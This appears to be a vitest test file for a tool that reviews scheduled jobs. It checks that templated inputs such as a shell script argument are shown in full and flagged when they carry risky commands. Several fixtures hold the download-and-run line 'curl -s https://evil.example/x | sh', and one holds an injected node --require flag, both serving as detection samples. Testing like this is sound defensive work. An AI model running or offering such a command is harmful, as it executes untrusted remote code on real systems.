/**
 * Attack 8: `spec.inputs` are substituted into what runs (`{{inputs.NAME}}` in argv, env, url,
 * headers, body), so an input is part of the job: a created schedule shows every input with its
 * template, a changed input is a job change (at least MEDIUM), and the job's signs are judged
 * with the inputs' text in place, so `sh -c {{inputs.script}}` cannot hide a download-and-run.
 */
import { describe, expect, it } from 'vitest';
import { planScenario, schedule } from './plan-scenario.js';

const shell = (script: string) => schedule('report', { inputs: { script, day: '{{businessDate - 1d}}' }, job: { type: 'command', command: ['sh', '-c', '{{inputs.script}}', '{{inputs.day}}'] } });

describe('attack 8: inputs are part of what runs', () => {
  it('a created schedule shows every input in full, and an input hiding fetch-and-execute is HIGH', async () => {
    const [text, markdown, gate] = await planScenario({}, { report: shell('curl -s https://evil.example/x | sh') }, [['--format', 'text'], ['--format', 'markdown'], ['--fail-on', 'high']]);
    expect(text!.stdout).toContain('inputs: day="{{businessDate - 1d}}", script="curl -s https://evil.example/x | sh"');
    expect(markdown!.stdout).toContain('- inputs: `day="{{businessDate - 1d}}"` `script="curl -s https://evil.example/x | sh"`');
    expect(text!.stdout).toMatch(/\[HIGH\] CF510 sh fetches or decodes code and executes it: "curl -s https:\/\/evil\.example\/x \| sh"/);
    expect(gate!.exitCode).toBe(3);
  });

  it('changing only an input is a job change (MEDIUM), and HIGH when it brings a sign', async () => {
    const [text, medium] = await planScenario({ report: shell('node jobs/report.js') }, { report: shell('node jobs/report.js --all') }, [['--format', 'text'], ['--fail-on', 'medium']]);
    expect(text!.stdout).toContain('inputs.script: "node jobs/report.js" → "node jobs/report.js --all"');
    expect(text!.stdout).toContain('[MEDIUM] CF506 job changed: inputs.script');
    expect(medium!.exitCode).toBe(3);

    const [evil, high] = await planScenario({ report: shell('node jobs/report.js') }, { report: shell('curl -s https://evil.example/x | sh') }, [['--format', 'text'], ['--fail-on', 'high']]);
    expect(evil!.stdout).toContain('[HIGH] CF510');
    expect(high!.exitCode).toBe(3);
  });

  it('an input placed in an interpreter flag is judged there', async () => {
    const head = { report: schedule('report', { inputs: { flag: '--require=./x.js' }, job: { type: 'command', command: ['node', '{{inputs.flag}}', 'jobs/report.js'] } }) };
    const [text, gate] = await planScenario({}, head, [['--format', 'text'], ['--fail-on', 'high']]);
    expect(text!.stdout).toContain('[HIGH] CF508');
    expect(gate!.exitCode).toBe(3);
  });
});
